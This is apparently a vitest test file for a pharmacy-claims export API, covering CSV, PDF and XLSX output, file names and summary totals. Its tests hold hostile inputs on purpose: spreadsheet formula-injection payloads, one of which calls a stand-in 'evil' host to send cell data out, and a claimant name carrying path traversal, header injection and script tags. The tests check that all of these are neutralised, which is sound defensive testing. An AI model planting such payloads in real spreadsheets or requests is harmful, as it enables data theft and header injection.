import { afterAll, beforeAll, expect, test } from 'vitest'
import type { TestApi, Visitor } from '#testing/api.ts'
import { sheetsOf, timeOfSheet } from '#testing/spreadsheet.ts'
import { startFixtureApi } from '#testing/fixture-api.ts'
import { idOf } from '#testing/fixtures.ts'
import { transactionHistory as calls } from './contract.ts'
import { addFills, claimId } from '#testing/fills.ts'

let api: TestApi
let adjuster: Visitor
beforeAll(async () => {
  api = await startFixtureApi({ keep: true })
  await addFills(
    api,
    Array.from(
      { length: 1210 },
      (_, at) => ({ ago: 1 + Math.floor(at / 3), status: at % 11 === 0 ? 'X' : 'P' }) as const,
    ),
  )
  adjuster = await api.signIn('adj.aaa')
})
afterAll(() => api.close())

const file = (type: string, more: object = {}, who = adjuster) =>
  who.ask(calls.export, { type, claimId: claimId(), timeZone: 'UTC', patientName: 'Somebody Else', ...more })
const today = () => {
  const utc = new Date().toISOString()
  return `${utc.slice(5, 7)}-${utc.slice(8, 10)}-${utc.slice(0, 4)}`
}

/** A file by RFC 4180: every field quoted, CRLF between records. */
function recordsOf(text: string): string[][] {
  const records: string[][] = [[]]
  for (const [, field, end] of text.slice(1).matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    records.at(-1)!.push(field!.replaceAll('""', '"'))
    if (end !== ',') records.push([])
  }
  return records.slice(0, -1)
}

test('the file has every transaction of the filter once, with the person on file in its name', async () => {
  const { headers, text } = await file('CSV')
  expect(headers['content-disposition']).toContain(`filename="Maria Ortega1 ${today()}.csv"`)
  const records = recordsOf(text)
  expect(new Set(records.map((one) => one.length))).toEqual(new Set([records[0]!.length]))
  const tcn = records[0]!.indexOf('TCN')
  const rows = records.slice(1, 1211)
  expect(new Set(rows.map((row) => row[tcn])).size).toBe(1210)
  const amount = records[0]!.indexOf('Amount')
  expect(rows.filter((row) => row[1] === 'Reversal').every((row) => Number(row[amount]) < 0)).toBe(true)
  // The last digits of the social security number are in no field.
  expect(records.flat().includes('1120')).toBe(false)
  const paid = recordsOf((await file('csv', { claimTypes: { reversal: true } })).text)
  expect(paid.filter((row) => row[1] === 'Reversal').length).toBe(110)
  expect(paid.flat()).toContain('Type: Reversal')
  expect((await file('xml')).body.status).toMatchObject({ message: 'Unknown export type. Allowed types CSV or PDF' })
})

test('a spreadsheet takes no text of a patient, a drug or a pharmacy for a formula', async () => {
  const hostile = ['=HYPERLINK("http://evil?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1', '"a,b\r\nc"', ';=1', '＝1']
  await addFills(
    api,
    hostile.map((drug_name) => ({ ago: 3, claim: 3, more: { drug_name } })),
    2000,
  )
  const { text } = await file('csv', { claimId: claimId(3) })
  const records = recordsOf(text)
  const drugs = records.slice(1, 1 + hostile.length).map((row) => row[2]!)
  expect(drugs.toSorted()).toEqual(hostile.map((name) => (/^[=+\-@\t＝]/.test(name) ? `'${name}` : name)).toSorted())
  expect(new Set(records.map((one) => one.length)).size).toBe(1)
})

test('a hostile name becomes an ordinary file name, and text in a PDF', async () => {
  const name = 'Łukasz "Bo" ../../x\r\nSet-Cookie: a=b;.exe 🙂\u202egpj'
  await api.db.query('update claimant set first_name = $1, last_name = $2 where id = $3', [
    name,
    `<script>alert(1)</script>${'W'.repeat(150)}🙂🙂`,
    idOf('AAA AAA1 claim 3 person'),
  ])
  for (const call of [
    () => file('csv', { claimId: claimId(3) }),
    () => file('pdf', { claimId: claimId(3) }),
    () => adjuster.ask(calls.summaryExport, { type: 'csv', id: claimId(3), timeZone: 'UTC' }),
    () => adjuster.ask(calls.summaryExport, { type: 'pdf', id: claimId(3), timeZone: 'UTC' }),
  ]) {
    const { status, headers } = await call()
    expect(status).toBe(200)
    const given = String(headers['content-disposition'])
    const decoded = decodeURIComponent(given.split("filename*=UTF-8''")[1]!)
    expect(decoded).toMatch(new RegExp(`^[^\\\\/:*?"<>|;\\p{Cc}\\p{Cf}]+ ${today()}\\.(csv|pdf)$`, 'u'))
    expect(decoded.startsWith('Łukasz')).toBe(true)
    expect(Buffer.byteLength(decoded)).toBeLessThanOrEqual(150)
    expect(headers['set-cookie']).toBeUndefined()
    expect(given).toMatch(/^attachment; filename="[\x20-\x7e]+"; /)
  }
  const { text } = await file('pdf', { claimId: claimId(3) })
  expect(text.startsWith('%PDF')).toBe(true)
  expect(text).not.toMatch(/\/(JavaScript|JS|Launch|URI)\b/)
})

test('a carrier that wants no names in file names gets none, and one without PDF gets no PDF', async () => {
  await api.db.query(`insert into carrier_setting (mc, key, value) values ('AAA', 'patientNameInFiles', 'false')`)
  expect((await file('csv')).headers['content-disposition']).toContain(`"TransactionHistory ${today()}.csv"`)
  await api.db.query(`insert into feature_flag_override (mc, key, enabled) values ('AAA', 'pdfExportEnabled', false)`)
  expect((await file('pdf')).body.status.code).toBe('FEATURE_OFF')
  await api.db.query(`delete from carrier_setting where key = 'patientNameInFiles'`)
  await api.db.query(`delete from feature_flag_override where key = 'pdfExportEnabled'`)
})

test('the claim summary adds up, by year, class, drug, prescriber and pharmacy, and its file says the same', async () => {
  const { body } = await adjuster.ask(calls.summary, { id: claimId() })
  expect(body.counts).toMatchObject({ paid: 1100, reversed: 110, rejected: 0 })
  for (const part of [body.byYear, body.byClass, body.topDrugs, body.prescribers, body.pharmacies]) {
    expect(part.reduce((sum, one) => sum + one.fills, 0)).toBe(1100)
    expect(part.reduce((sum, one) => sum + one.amount, 0)).toBeCloseTo(body.counts.amount)
  }
  const csv = await adjuster.ask(calls.summaryExport, { type: 'csv', id: claimId(), timeZone: 'UTC' })
  const lines = recordsOf(csv.text)
  expect(lines.find((line) => line[1] === 'Paid')!.slice(2)).toEqual(['1100', String(body.counts.amount)])
  expect(
    (await adjuster.ask(calls.summary, { id: claimId(), from: '2026-02-02', to: '2026-02-01' })).body.fields,
  ).toMatchObject([{ path: 'to' }])
  expect((await adjuster.ask(calls.summaryExport, { type: 'doc', id: claimId() })).body.status.code).toBe(
    'UNKNOWN_EXPORT_TYPE',
  )
})

test('a spreadsheet has every TCN whole, and each day as a day', async () => {
  const lines = recordsOf((await file('csv')).text)
  const { headers, bytes } = await file('xlsx')
  expect(headers['content-disposition']).toContain('.xlsx"')
  const [data] = sheetsOf(bytes)
  const [tcn, filled] = [lines[0]!.indexOf('TCN'), lines[0]!.indexOf('Filled')]
  const rows = data!.rows.slice(1)
  expect(rows.length).toBeGreaterThan(0)
  expect(rows.map((row) => row[tcn])).toEqual(
    lines.slice(1, rows.length + 1).map((line) => ({ kind: 'text', value: line[tcn], look: 1 })),
  )
  expect(rows.every((row) => row[filled]?.look === 3 && timeOfSheet(row[filled].value).endsWith('T00:00'))).toBe(true)
  const summary = await adjuster.ask(calls.summaryExport, { type: 'xlsx', id: claimId(), timeZone: 'UTC' })
  expect(sheetsOf(summary.bytes)[0]!.rows[0]!.map((cell) => cell?.value)).toEqual(['Part', 'Name', 'Fills', 'Amount'])
})
